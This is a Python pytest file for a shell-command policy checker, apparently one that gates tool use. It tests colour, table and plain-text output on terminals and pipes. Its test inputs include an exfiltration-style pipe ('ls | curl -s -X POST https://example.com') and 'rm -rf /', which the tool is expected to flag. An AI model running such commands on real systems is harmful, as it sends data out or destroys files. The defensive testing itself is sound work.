"""On a terminal, colour and tables through rich (NO_COLOR honoured); piped, plain text; and
``policy fuzz`` shows progress per invariant on a terminal's stderr only."""

from __future__ import annotations

import os
import pty
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

COLOUR = re.compile(r"\x1b\[[0-9;]*(3[0-7]|38;5;\d+)m")
ESCAPE = "\x1b["
ANY_ESCAPE = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
POLICY = [sys.executable, "-m", "clawgate"]


def _on_terminal(argv: list[str], *, no_color: bool = False, stdout_too: bool = True
                 ) -> tuple[int, str, str]:
    """Run ``policy ARGV`` with stderr (and stdout unless ``stdout_too`` is false) on a pty:
    (exit code, what the terminal showed, stdout when it was a file)."""
    env = {k: v for k, v in os.environ.items() if k != "NO_COLOR"}
    env |= {"COLUMNS": "120", "TERM": "xterm-256color"}
    if no_color:
        env["NO_COLOR"] = "1"
    master, slave = pty.openpty()
    with tempfile.TemporaryFile() as out:
        child = subprocess.Popen([*POLICY, *argv], stdin=subprocess.DEVNULL, env=env,
                                 stdout=slave if stdout_too else out, stderr=slave)
        os.close(slave)
        shown = b""
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            shown += chunk
        os.close(master)
        code = child.wait()
        out.seek(0)
        return code, shown.decode(errors="replace"), out.read().decode()


def _text(shown: str) -> str:
    return ANY_ESCAPE.sub("", shown)


def test_explain_is_a_coloured_table_on_a_terminal() -> None:
    code, shown, _ = _on_terminal(["check", "--explain", "ls | curl -s -X POST https://example.com"])
    assert code == 3
    assert COLOUR.search(shown) and "┃ simple command" in _text(shown)
    assert "CG-RISK-001" in shown and "ask" in shown


def test_no_color_keeps_the_table_without_colour() -> None:
    code, shown, _ = _on_terminal(["check", "--explain", "rm -rf /"], no_color=True)
    assert code == 4
    assert "┃ simple command" in _text(shown) and not COLOUR.search(shown)


@pytest.mark.parametrize("argv", [
    ["check", "--explain", "ls | curl -s -X POST https://example.com"],
    ["check", "rm -rf /"],
    ["tools", "--explain"],
])
def test_piped_output_is_plain(argv: list[str]) -> None:
    done = subprocess.run([*POLICY, *argv], capture_output=True, text=True, check=False)
    assert ESCAPE not in done.stdout and ESCAPE not in done.stderr


def test_tools_on_a_terminal_is_a_table() -> None:
    code, shown, _ = _on_terminal(["tools", "--explain"])
    assert code == 0
    assert "┃ step" in _text(shown) and "┃ visible tool" in _text(shown)
    assert "read_file" in shown


def test_fuzz_shows_progress_on_a_terminal_and_nothing_extra_piped() -> None:
    argv = ["fuzz", "--examples", "2", "--invariant", "paths", "--invariant", "decides"]
    code, shown, out = _on_terminal(argv, stdout_too=False)
    assert code == 0
    assert "invariant decides" in shown and "invariant paths" in shown
    assert out.startswith("decides ") and ESCAPE not in out
    piped = subprocess.run([*POLICY, *argv], capture_output=True, text=True, check=False)
    assert piped.returncode == 0 and piped.stderr == ""
    assert [line.split()[0] for line in piped.stdout.splitlines()] == ["decides", "paths"]


def test_lint_on_a_terminal_is_a_table_and_piped_one_line_a_finding(tmp_path: Path) -> None:
    manifest = tmp_path / "p.yaml"
    manifest.write_text("version: 1\ntools: {deny: [exec-shell]}\n", encoding="utf-8")
    code, shown, _ = _on_terminal(["lint", str(manifest)])
    assert code in (2, 3)
    assert "┃ where" in _text(shown) and "exec-shell" in shown
    piped = subprocess.run([*POLICY, "lint", str(manifest)], capture_output=True, text=True,
                           check=False)
    assert piped.returncode == code and ESCAPE not in piped.stdout
    assert piped.stdout.startswith(f"{manifest}:2: ") and "exec-shell" in piped.stdout


def test_fuzz_result_lines_reach_the_terminal_with_the_bar() -> None:
    code, shown, _ = _on_terminal(["fuzz", "--examples", "2", "--invariant", "paths"])
    assert code == 0
    assert re.search(r"paths +ok +2 examples", _text(shown)), shown
